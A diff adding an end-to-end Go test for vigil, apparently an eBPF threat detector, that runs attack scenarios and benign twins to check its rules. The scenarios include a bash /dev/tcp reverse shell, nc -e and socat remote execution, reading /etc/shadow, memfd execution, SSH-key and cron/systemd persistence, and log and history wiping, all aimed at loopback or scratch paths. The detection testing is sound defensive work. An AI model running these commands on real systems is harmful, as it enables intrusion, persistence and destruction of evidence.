@@ -1,0 +1,268 @@
+package e2e
+
+import (
+	"bufio"
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"golang.org/x/sys/unix"
+
+	"github.com/vigil-dev/vigil/internal/bpftest"
+)
+
+// alertLine is the part of an alert the scenario tests look at.
+type alertLine struct {
+	Kind    string `json:"kind"`
+	Rule    string `json:"rule"`
+	Action  string `json:"action"`
+	Process struct {
+		PID  uint32   `json:"pid"`
+		Exe  string   `json:"exe"`
+		Args []string `json:"args"`
+	} `json:"process"`
+	Ancestors []struct {
+		PID uint32 `json:"pid"`
+		Exe string `json:"exe"`
+	} `json:"ancestors"`
+	Event struct {
+		Kind string `json:"kind"`
+		Path string `json:"path"`
+	} `json:"event"`
+}
+
+// descends reports whether the alert's process is pid or one of its
+// descendants.
+func (a *alertLine) descends(pid uint32) bool {
+	if a.Process.PID == pid {
+		return true
+	}
+	for _, an := range a.Ancestors {
+		if an.PID == pid {
+			return true
+		}
+	}
+	return false
+}
+
+func readAlerts(t *testing.T, path string) []alertLine {
+	t.Helper()
+	b, err := os.ReadFile(path)
+	if err != nil && !os.IsNotExist(err) {
+		t.Fatal(err)
+	}
+	var out []alertLine
+	sc := bufio.NewScanner(bytes.NewReader(b))
+	sc.Buffer(make([]byte, 1<<20), 1<<20)
+	for sc.Scan() {
+		var a alertLine
+		if err := json.Unmarshal(sc.Bytes(), &a); err != nil {
+			t.Fatalf("alerts file: not JSON: %q: %v", sc.Text(), err)
+		}
+		if a.Kind != "alert" {
+			t.Fatalf("alerts file holds a %q event", a.Kind)
+		}
+		out = append(out, a)
+	}
+	return out
+}
+
+// scenario is one threat of the built-in ruleset, done for real, and its
+// benign twin, which must not raise the rule.
+type scenario struct {
+	rule                 string
+	attack               string // shell script, run by /bin/sh -c; DIR is the scratch directory
+	benign               string
+	exe                  string   // the alerting process's executable, when it matters
+	needs                []string // programs the scenario runs
+	attackPID, benignPID uint32
+}
+
+func TestBuiltinRulesDetectEveryThreatClass(t *testing.T) {
+	bpftest.Require(t)
+	dir, err := os.MkdirTemp("/var/lib", "vigil-e2e-rules-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(dir) })
+	for _, d := range []string{"home/.ssh", "cg", "tmpfs", "del/sub", "keep"} {
+		os.MkdirAll(filepath.Join(dir, d), 0o755)
+	}
+	for _, f := range []string{"f", "g", "job", "home/.bash_history", "home/.zsh_history", "home/.ssh/authorized_keys", "x.ko"} {
+		os.WriteFile(filepath.Join(dir, f), []byte("x\n"), 0o644)
+	}
+	tag := filepath.Base(dir)
+	logFile := "/var/log/" + tag + ".log"
+	os.WriteFile(logFile, []byte("old\n"), 0o644)
+	etcFile := "/etc/" + tag
+	cronFile := "/etc/cron.d/" + tag
+	movedCron := "/etc/cron.d/" + tag + "-moved"
+	unitFile := "/etc/systemd/system/" + tag + ".service"
+	libFile := "/usr/lib/" + tag
+	os.MkdirAll("/etc/cron.d", 0o755)
+	os.MkdirAll("/etc/systemd/system", 0o755)
+	t.Cleanup(func() {
+		for _, f := range []string{logFile, etcFile, cronFile, movedCron, unitFile, libFile} {
+			os.Remove(f)
+		}
+		unix.Unmount(filepath.Join(dir, "cg"), unix.MNT_DETACH)
+		unix.Unmount(filepath.Join(dir, "tmpfs"), unix.MNT_DETACH)
+	})
+	port := acceptAndDiscard(t)
+	py := "/usr/bin/python3"
+
+	scenarios := []scenario{
+		{rule: "read-sensitive-file-untrusted", attack: "cat /etc/shadow >/dev/null", benign: "chage -l root >/dev/null", exe: "/usr/bin/cat", needs: []string{"chage"}},
+		{rule: "shell-spawned-by-server", attack: `node -e 'require("child_process").execSync("true")'`, benign: `node -e 'require("child_process").execFileSync("/usr/bin/true")'`, needs: []string{"node"}},
+		{rule: "ptrace-attach", attack: py + ` -c 'import ctypes,os,time; p=os.fork()
+if p == 0: time.sleep(5); os._exit(0)
+l=ctypes.CDLL(None); print(l.ptrace(16, p, 0, 0)); os.kill(p, 9)'`, benign: py + ` -c 'import ctypes,os; ctypes.CDLL(None).ptrace(3, os.getppid(), 0, 0)'`},
+		{rule: "ptrace-traceme", attack: py + ` -c 'import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)'`, benign: "strace -o /dev/null /usr/bin/true", needs: []string{"strace"}},
+		{rule: "exec-from-memfd", attack: py + ` -c 'import os; fd=os.memfd_create("payload"); os.write(fd, open("/usr/bin/true","rb").read()); os.execv("/proc/self/fd/%d" % fd, ["payload"])'`, benign: "/usr/bin/true", exe: "/memfd:payload"},
+		{rule: "memfd-create-by-interpreter", attack: py + ` -c 'import os; os.memfd_create("x")'`, benign: py + ` -c 'import os; os.pipe()'`},
+		{rule: "exec-from-temp-dir", attack: "cp /usr/bin/true /dev/shm/" + tag + " && /dev/shm/" + tag + "; rm -f /dev/shm/" + tag, benign: "/usr/bin/true"},
+		{rule: "link-to-sensitive-file", attack: "ln -s /etc/shadow DIR/shadow-link", benign: "ln -s /etc/hostname DIR/hostname-link"},
+		{rule: "truncate-log-file", attack: ": > " + logFile, benign: "echo new >> " + logFile},
+		{rule: "delete-log-file", attack: "rm " + logFile, benign: "rm DIR/g"},
+		{rule: "truncate-shell-history", attack: ": > DIR/home/.bash_history", benign: "echo ls >> DIR/home/.bash_history"},
+		{rule: "delete-shell-history", attack: "rm DIR/home/.zsh_history && ln -s /dev/null DIR/home/.zsh_history", benign: "rm DIR/keep -r"},
+		{rule: "data-destruction-tool", attack: "shred -u DIR/f", benign: "cp DIR/job DIR/job2"},
+		{rule: "recursive-delete-of-root", attack: "rm -r --no-preserve-root DIR/del", benign: "mkdir DIR/del2 && rm -r DIR/del2"},
+		{rule: "search-private-keys-or-passwords", attack: "find DIR -name id_rsa", benign: "find DIR -name '*.txt'"},
+		{rule: "reverse-shell", attack: fmt.Sprintf("bash -c 'echo exit | bash -i >& /dev/tcp/127.0.0.1/%d 0>&1'", port), benign: fmt.Sprintf("bash -c 'exec 3<>/dev/tcp/127.0.0.1/%d; echo hi >&3'", port), needs: []string{"bash"}},
+		{rule: "netcat-remote-exec", attack: fmt.Sprintf("nc -e /usr/bin/true 127.0.0.1 %d </dev/null; true", port), benign: fmt.Sprintf("nc -z 127.0.0.1 %d", port), needs: []string{"nc"}},
+		{rule: "socat-remote-exec", attack: fmt.Sprintf("socat TCP:127.0.0.1:%d EXEC:/usr/bin/true", port), benign: fmt.Sprintf("socat -u /dev/null TCP:127.0.0.1:%d", port), needs: []string{"socat"}},
+		{rule: "packet-socket-untrusted", attack: py + ` -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)'`, benign: py + ` -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)'`},
+		{rule: "raw-socket-untrusted", attack: py + ` -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)'`, benign: py + ` -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_STREAM)'`},
+		{rule: "module-tool-executed", attack: "insmod DIR/x.ko; true", benign: "lsmod >/dev/null; true", needs: []string{"insmod", "lsmod"}},
+		{rule: "write-below-etc", attack: "echo x > " + etcFile, benign: "cat /etc/hostname >/dev/null"},
+		{rule: "write-below-binary-dir", attack: "echo x > " + libFile, benign: "echo x > DIR/lib"},
+		{rule: "setuid-setgid-bit-set", attack: "chmod u+s DIR/job", benign: "chmod 0755 DIR/job"},
+		{rule: "cron-job-written", attack: "echo '* * * * * root true' > " + cronFile, benign: "cat /etc/crontab >/dev/null 2>&1; true"},
+		{rule: "systemd-unit-written", attack: "printf '[Service]\\nExecStart=/usr/bin/true\\n' > " + unitFile, benign: "ls /etc/systemd/system >/dev/null"},
+		{rule: "persistence-file-moved-in", attack: "cp DIR/job DIR/job3 && mv DIR/job3 " + movedCron, benign: "cp DIR/job DIR/job4 && mv DIR/job4 DIR/job5"},
+		{rule: "ssh-authorized-keys-written", attack: "echo 'ssh-ed25519 AAAA attacker' >> DIR/home/.ssh/authorized_keys", benign: "cat DIR/home/.ssh/authorized_keys >/dev/null"},
+		{rule: "release-agent-written", attack: "echo /evil > DIR/release_agent", benign: "echo fine > DIR/release_agent.txt"},
+		{rule: "cgroup-v1-mount", attack: "mount -t cgroup -o none,name=" + tag + " cgroup DIR/cg", benign: "mount -t tmpfs tmpfs DIR/tmpfs", needs: []string{"mount"}},
+	}
+	if _, err := os.Stat(py); err != nil {
+		bpftest.SkipOrFail(t, "Debian's python3 is not installed (scripts/setup.sh installs it)")
+	}
+	for _, s := range scenarios {
+		for _, n := range s.needs {
+			needTool(t, n)
+		}
+	}
+
+	alerts := filepath.Join(dir, "alerts.jsonl")
+	addr := freePort(t)
+	v := startVigil(t, "vigil running", "run", "--listen", addr, "--alerts-file", alerts)
+	defer v.stop()
+
+	run := func(script string) uint32 {
+		cmd := exec.Command("/bin/sh", "-c", strings.ReplaceAll(script, "DIR", dir))
+		cmd.Dir = dir
+		out, err := cmd.CombinedOutput()
+		if err != nil {
+			t.Logf("%s: %v: %s", script, err, out)
+		}
+		return uint32(cmd.Process.Pid)
+	}
+	for i := range scenarios {
+		scenarios[i].attackPID = run(scenarios[i].attack)
+		scenarios[i].benignPID = run(scenarios[i].benign)
+	}
+	// The barrier: a binary run from /tmp raises exec-from-temp-dir, and
+	// everything done before it has then been through vigil.
+	sentinel := filepath.Join(os.TempDir(), tag+"-sentinel")
+	b, _ := os.ReadFile("/usr/bin/true")
+	os.WriteFile(sentinel, b, 0o755)
+	defer os.Remove(sentinel)
+	deadline := time.Now().Add(15 * time.Second)
+	var got []alertLine
+	for {
+		got = readAlerts(t, alerts)
+		if slices.ContainsFunc(got, func(a alertLine) bool { return a.Rule == "exec-from-temp-dir" && a.Process.Exe == sentinel }) {
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("no alert for the sentinel %s after 15 s; %d alerts", sentinel, len(got))
+		}
+		exec.Command(sentinel).Run()
+		time.Sleep(200 * time.Millisecond)
+	}
+
+	for _, s := range scenarios {
+		var attack, benign []alertLine
+		for _, a := range got {
+			if a.Rule != s.rule {
+				continue
+			}
+			if a.descends(s.attackPID) {
+				attack = append(attack, a)
+			}
+			if a.descends(s.benignPID) {
+				benign = append(benign, a)
+			}
+		}
+		if len(attack) == 0 {
+			t.Errorf("%s: no alert for %q", s.rule, s.attack)
+		} else if s.exe != "" && attack[0].Process.Exe != s.exe {
+			t.Errorf("%s: alerting process %s, want %s", s.rule, attack[0].Process.Exe, s.exe)
+		} else if len(attack[0].Ancestors) == 0 {
+			t.Errorf("%s: alert without lineage", s.rule)
+		}
+		for _, a := range benign {
+			t.Errorf("%s: the benign twin %q alerted (%s %v)", s.rule, s.benign, a.Process.Exe, a.Process.Args)
+		}
+	}
+	_, body := httpGet(t, "http://"+addr+"/metrics")
+	if n := metricValue(t, body, `vigil_alerts_total{action="alert",rule="read-sensitive-file-untrusted",severity="high"}`); n < 1 {
+		t.Errorf("vigil_alerts_total for read-sensitive-file-untrusted = %v", n)
+	}
+	for _, src := range []string{"process", "file", "network", "privilege"} {
+		if n := metricValue(t, body, fmt.Sprintf(`vigil_events_lost_total{source=%q}`, src)); n != 0 {
+			t.Errorf("%s lost %v records", src, n)
+		}
+	}
+}
+
+// acceptAndDiscard runs a loopback TCP server that says "exit" (so that a
+// shell wired to the connection ends at once), reads and drops what it
+// gets, and returns its port.
+func acceptAndDiscard(t *testing.T) int {
+	t.Helper()
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { ln.Close() })
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			go func() {
+				defer c.Close()
+				c.SetDeadline(time.Now().Add(3 * time.Second))
+				c.Write([]byte("exit\n"))
+				buf := make([]byte, 4096)
+				for {
+					if _, err := c.Read(buf); err != nil {
+						return
+					}
+				}
+			}()
+		}
+	}()
+	return ln.Addr().(*net.TCPAddr).Port
+}
